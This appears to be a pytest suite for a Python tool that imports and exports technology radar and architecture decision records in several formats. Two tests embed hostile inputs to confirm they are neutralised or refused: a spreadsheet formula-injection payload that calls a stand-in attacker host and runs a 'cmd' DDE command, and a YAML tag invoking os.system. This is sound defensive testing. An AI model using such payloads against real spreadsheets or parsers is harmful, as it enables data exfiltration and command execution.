"""BYOR, AOE, adr-tools and MADR 2/3 imports on realistic files; exports round-trip."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest

from lodestar.catalog.technologies import load_catalog
from lodestar.errors import StrategyError
from lodestar.records import RadarConfig, RadarMove
from lodestar.strategy import load_strategy
from lodestar.strategy import radar_io as rio
from lodestar.strategy.adr_io import import_decisions

FIXTURES = Path(__file__).parent / "fixtures"


def write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    return root


def test_byor_csv() -> None:
    entries = rio.import_entries(
        rio.read_byor_csv(FIXTURES / "byor" / "radar.csv"), RadarConfig(), load_catalog()
    )
    by_id = {e.id: e for e in entries}
    assert len(entries) == 8
    kafka = by_id["apache-kafka"]
    assert (kafka.title, kafka.ring, kafka.quadrant) == ("Apache Kafka", "Trial", "Platforms")
    assert kafka.technology == "kafka"
    assert kafka.extra == {"is-new": True}
    assert '"exactly once"' in kafka.description
    assert by_id["lightweight-architecture-decision-records"].quadrant == "Techniques"
    assert by_id["lightweight-architecture-decision-records"].technology is None
    assert by_id["kotlin"].quadrant == "Languages & Frameworks"
    assert by_id["jenkins"].ring == "Hold"


def test_byor_json_and_imported_files_validate(tmp_path: Path) -> None:
    entries = rio.import_entries(
        rio.read_byor_json(FIXTURES / "byor" / "radar.json"), RadarConfig(), load_catalog()
    )
    assert [(e.id, e.ring, e.technology) for e in entries] == [
        ("kotlin", "Adopt", "kotlin"),
        ("apache-kafka", "Trial", "kafka"),
        ("jenkins", "Hold", "jenkins"),
    ]
    root = write(tmp_path, {e.path(): e.text() for e in entries})
    loaded = {e.id: e for e in load_strategy(root).entries}
    assert loaded["kotlin"].description == "<p>Our default for new JVM services since 2023.</p>"
    assert loaded["apache-kafka"].matchers[0].technology == "kafka"


def test_byor_rows_that_do_not_fit(tmp_path: Path) -> None:
    sheet = tmp_path / "bad.csv"
    sheet.write_text(
        "name,ring,quadrant,isNew,description\nX,adopt,gadgets,FALSE,\nY,adpot,tools,FALSE,\n",
        "utf-8",
    )
    with pytest.raises(StrategyError) as info:
        rio.import_entries(rio.read_byor_csv(sheet), RadarConfig())
    messages = [p.render() for p in info.value.problems]
    assert messages[0].startswith(f"{sheet}:2: X: unknown quadrant 'gadgets'")
    assert messages[1].startswith(f"{sheet}:3: Y: unknown ring 'adpot' (did you mean 'Adopt'?)")


def test_byor_missing_columns(tmp_path: Path) -> None:
    sheet = tmp_path / "bad.csv"
    sheet.write_text("title,ring\nX,adopt\n", "utf-8")
    with pytest.raises(StrategyError, match="missing columns name, quadrant"):
        rio.read_byor_csv(sheet)


def test_aoe_editions_latest_wins() -> None:
    rows = rio.read_aoe(FIXTURES / "aoe")
    entries = {e.id: e for e in rio.import_entries(rows, RadarConfig(), load_catalog())}
    assert set(entries) == {"typescript", "jenkins", "pair-programming", "aws-lambda"}
    assert entries["typescript"].ring == "Adopt"
    assert entries["typescript"].description.startswith("TypeScript is now the default")
    assert entries["typescript"].tags == ("frontend", "coding")
    assert entries["jenkins"].ring == "Hold"
    assert entries["jenkins"].description == "Our CI server for all JVM builds."  # last non-empty
    assert entries["jenkins"].extra == {"aoe-first-edition": "2023-06-01", "featured": False}
    assert entries["pair-programming"].quadrant == "Techniques"
    assert entries["aws-lambda"].quadrant == "Platforms"


def test_exports_round_trip(tmp_path: Path) -> None:
    entries = rio.import_entries(
        rio.read_byor_csv(FIXTURES / "byor" / "radar.csv"), RadarConfig(), load_catalog()
    )
    strategy = load_strategy(write(tmp_path / "ws", {e.path(): e.text() for e in entries}))
    key = {(e.title, e.ring, e.quadrant, e.description) for e in strategy.entries}
    move = RadarMove("k6", dt.date(2025, 1, 1), "c" * 40, "Assess", None, "new")
    sheet = rio.export_byor_csv(strategy, [move])
    rows = list(csv.DictReader(io.StringIO(sheet)))
    assert [r["isNew"] for r in rows if r["name"] == "k6"] == ["TRUE"]
    assert {r["isNew"] for r in rows if r["name"] != "k6"} == {"FALSE"}
    csv_file = tmp_path / "out.csv"
    csv_file.write_text(sheet, "utf-8")
    again = rio.import_entries(rio.read_byor_csv(csv_file), RadarConfig())
    assert {(e.title, e.ring, e.quadrant, e.description) for e in again} == key
    json_file = tmp_path / "out.json"
    json_file.write_text(rio.export_byor_json(strategy), "utf-8")
    assert len(json.loads(json_file.read_text("utf-8"))) == 8
    again = rio.import_entries(rio.read_byor_json(json_file), RadarConfig())
    assert {(e.title, e.ring, e.quadrant, e.description) for e in again} == key
    aoe = write(tmp_path / "aoe", rio.export_aoe(strategy, "2026-11-01"))
    again = rio.import_entries(rio.read_aoe(aoe), RadarConfig())
    assert {(e.title, e.ring, e.quadrant, e.description) for e in again} == key


def test_byor_csv_export_cannot_carry_spreadsheet_formulas() -> None:
    from lodestar.records import RadarEntry, Strategy

    hostile = RadarEntry(
        "evil",
        '=HYPERLINK("http://attacker.example/?"&A1,"click")',
        "Tools",
        "Adopt",
        description="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    plain = RadarEntry("ruff", "Ruff", "Tools", "Adopt", description="-fast linter, +1")
    rows = list(
        csv.DictReader(io.StringIO(rio.export_byor_csv(Strategy(entries=(hostile, plain)))))
    )
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@"}]
    assert rows[0]["name"].startswith("'=HYPERLINK")  # kept, made inert
    assert rows[1]["description"] == "'-fast linter, +1"


def test_adr_tools_folder(tmp_path: Path) -> None:
    records = {r.number: r for r in import_decisions(FIXTURES / "adr-tools")}
    assert {n: r.kind for n, r in records.items()} == dict.fromkeys(range(1, 6), "adr-tools")
    first = records[1]
    assert (first.id, first.title, first.status) == (
        "ADR-20210302-record-architecture-decisions",
        "Record architecture decisions",
        "accepted",
    )
    assert records[2].status == "superseded"
    assert records[2].links == {"superseded-by": [records[4].id]}
    assert records[4].links == {"supersedes": [records[2].id]}
    assert records[3].links == {"amended-by": [records[5].id]}
    assert records[5].status == "proposed"
    assert "## Context and Problem Statement" in first.body
    assert "## Decision Outcome" in first.body
    root = write(tmp_path, {r.path(): r.text() for r in records.values()})
    decisions = {d.id: d for d in load_strategy(root).decisions}
    mysql = decisions[records[2].id]
    assert mysql.status == "superseded"
    assert [(link.kind, link.target) for link in mysql.links] == [("superseded-by", records[4].id)]
    assert mysql.title == "Use MySQL for the billing database"


def test_madr2_folder(tmp_path: Path) -> None:
    records = {r.number: r for r in import_decisions(FIXTURES / "madr2")}
    assert set(records) == {0, 1, 2}  # the template is skipped
    assert records[0].kind == "madr-2"
    assert records[0].people == {"decision-makers": ["Dana Smith", "Lee Wong"]}
    assert records[1].status == "superseded"
    assert records[1].links == {"superseded-by": [records[2].id]}
    root = write(tmp_path, {r.path(): r.text() for r in records.values()})
    decisions = {d.id: d for d in load_strategy(root).decisions}
    adopted = decisions[records[0].id]
    assert adopted.options == ("MADR 2.1.2", "Michael Nygard's template", "Formless")
    assert adopted.chosen == "MADR 2.1.2"
    assert decisions[records[2].id].links[0].kind == "supersedes"


def test_madr3_folder(tmp_path: Path) -> None:
    records = {r.number: r for r in import_decisions(FIXTURES / "madr3")}
    otel = records[1]
    assert otel.kind == "madr-3"
    assert otel.people == {
        "decision-makers": ["Platform team", "Dana Smith"],
        "consulted": ["SRE guild"],
        "informed": ["all engineering"],
    }
    assert records[2].status == "superseded"
    assert records[2].links == {"superseded-by": [otel.id]}
    root = write(tmp_path, {r.path(): r.text() for r in records.values()})
    decisions = {d.id: d for d in load_strategy(root).decisions}
    assert decisions[otel.id].chosen == "OpenTelemetry"
    assert decisions[otel.id].date is not None


def test_import_avoids_existing_ids() -> None:
    taken = {"ADR-20210302-record-architecture-decisions"}
    records = import_decisions(FIXTURES / "adr-tools", taken)
    assert records[0].id == "ADR-20210302-record-architecture-decisions-2"


def test_hostile_import_files_are_refused(tmp_path: Path) -> None:
    sheet = tmp_path / "big-cell.csv"
    sheet.write_text("name,ring,quadrant\nx,adopt," + "a" * 200_000 + "\n", "utf-8")
    with pytest.raises(StrategyError, match="unreadable CSV: field larger than field limit"):
        rio.read_byor_csv(sheet)
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000, "utf-8")
    with pytest.raises(StrategyError, match="nested too deeply"):
        rio.read_byor_json(deep)
    huge = tmp_path / "huge.csv"
    huge.write_bytes(
        b"name,ring,quadrant\n" + b"x,adopt,tools\n" * (rio.MAX_IMPORT_BYTES // 14 + 1)
    )
    with pytest.raises(StrategyError, match="larger than 8 MiB"):
        rio.read_byor_csv(huge)
    aoe = tmp_path / "aoe" / "2024-01-01"
    aoe.mkdir(parents=True)
    (aoe / "x.md").write_text("---\ntitle: !!python/object:os.system x\n---\n", "utf-8")
    with pytest.raises(StrategyError, match="YAML tags are not allowed"):
        rio.read_aoe(tmp_path / "aoe")


def test_byor_status_says_how_each_entry_moved_in_the_latest_edition() -> None:
    from lodestar.records import RadarEntry, Strategy

    def move(entry: str, month: int, ring: str, previous: str | None, kind: str) -> RadarMove:
        return RadarMove(entry, dt.date(2026, month, 1), f"{month:040d}", ring, previous, kind)

    moves = [
        move("kotlin", 2, "Trial", None, "new"),
        move("java", 2, "Adopt", None, "new"),
        move("k6", 2, "Assess", None, "new"),
        move("kotlin", 10, "Adopt", "Trial", "moved-in"),
        move("java", 10, "Hold", "Adopt", "moved-out"),
        move("uv", 10, "Assess", None, "new"),
    ]
    entries = tuple(
        RadarEntry(i, t, "Languages & Frameworks", r)
        for i, t, r in (
            ("kotlin", "Kotlin", "Adopt"),
            ("java", "Java", "Hold"),
            ("k6", "k6", "Assess"),
            ("uv", "uv", "Assess"),
        )
    )
    rows = list(csv.DictReader(io.StringIO(rio.export_byor_csv(Strategy(entries=entries), moves))))
    assert list(rows[0]) == ["name", "ring", "quadrant", "isNew", "status", "description"]
    assert {r["name"]: (r["status"], r["isNew"]) for r in rows} == {
        "Kotlin": ("Moved In", "FALSE"),
        "Java": ("Moved Out", "FALSE"),
        "k6": ("No Change", "FALSE"),
        "uv": ("New", "TRUE"),
    }
    listed = json.loads(rio.export_byor_json(Strategy(entries=entries), moves))
    assert {r["name"]: r["status"] for r in listed}["Java"] == "Moved Out"
    # no history at all: no claim about movement
    rows = list(csv.DictReader(io.StringIO(rio.export_byor_csv(Strategy(entries=entries)))))
    assert {(r["status"], r["isNew"]) for r in rows} == {("", "FALSE")}
    # moved out and back in within the same edition: no change
    back = [*moves, move("java", 10, "Adopt", "Hold", "moved-in")]
    rows = list(csv.DictReader(io.StringIO(rio.export_byor_csv(Strategy(entries=entries), back))))
    assert {r["name"]: r["status"] for r in rows}["Java"] == "No Change"


def test_byor_status_column_is_read_and_checked(tmp_path: Path) -> None:
    sheet = tmp_path / "radar.csv"
    sheet.write_text(
        "name,ring,quadrant,isNew,status,description\n"
        "Kotlin,adopt,languages & frameworks,FALSE,moved in,JVM services\n"
        "Jenkins,hold,tools,FALSE,Moved  Out,\n"
        "k6,assess,tools,FALSE,NEW,Load tests\n"
        "Terraform,adopt,platforms,FALSE,No Change,\n"
        "Ruff,adopt,tools,TRUE,,\n",
        "utf-8",
    )
    entries = {e.id: e for e in rio.import_entries(rio.read_byor_csv(sheet), RadarConfig())}
    assert entries["kotlin"].extra == {"byor-status": "Moved In"}
    assert entries["jenkins"].extra == {"byor-status": "Moved Out"}
    assert entries["k6"].extra == {"byor-status": "New", "is-new": True}
    assert entries["terraform"].extra == {"byor-status": "No Change"}
    assert entries["ruff"].extra == {"is-new": True}
    bad = tmp_path / "bad.csv"
    bad.write_text("name,ring,quadrant,status\nKotlin,adopt,tools,moved inn\n", "utf-8")
    with pytest.raises(StrategyError) as info:
        rio.import_entries(rio.read_byor_csv(bad), RadarConfig())
    (problem,) = info.value.problems
    assert problem.render().startswith(
        f"{bad}:2: Kotlin: unknown status 'moved inn' (did you mean 'Moved In'?)"
    )


def test_byor_json_status_round_trips(tmp_path: Path) -> None:
    data = [{"name": "Kafka", "ring": "Trial", "quadrant": "Platforms", "status": "Moved In"}]
    (tmp_path / "r.json").write_text(json.dumps(data), "utf-8")
    (entry,) = rio.import_entries(rio.read_byor_json(tmp_path / "r.json"), RadarConfig())
    assert entry.extra == {"byor-status": "Moved In"}
